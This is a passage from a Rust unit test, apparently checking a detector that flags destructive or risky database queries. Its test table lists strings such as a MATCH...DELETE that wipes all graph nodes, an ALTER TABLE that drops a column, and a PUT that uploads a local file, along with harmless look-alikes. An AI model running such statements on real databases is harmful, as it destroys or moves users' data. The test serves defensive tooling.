            ("ALTER TABLE a SET UNUSED (b)", "query.alter.drop"),
            ("PUT file:///home/dev/a.csv @b", "query.file at a path"),
            ("MATCH (a:B) DELETE a", "query.delete.all"),
            ("MATCH (a:B {id: 7}) DELETE a", ""),
            ("COPY (SELECT 1) TO STDOUT WITH (FORMAT csv)", ""),
            ("EXPLAIN DELETE FROM a", ""),
            ("SELECT 'DELETE FROM a'; -- DROP TABLE a", ""),
            ("VACUUM ANALYZE users", ""),
            ("SELECT \"drop\" FROM a WHERE b LIKE '%;DROP TABLE a'", ""),
        ] {
            let mut found = Vec::new();
            read(text, 0, &mut found);
            let right = if expected.is_empty() {
                found.is_empty()
            } else {
                found.iter().any(|(id, _)| *id == expected)
            };
            if !right {
                wrong.push(format!("{text}: {found:?}"));
            }
        }
        assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    }
}
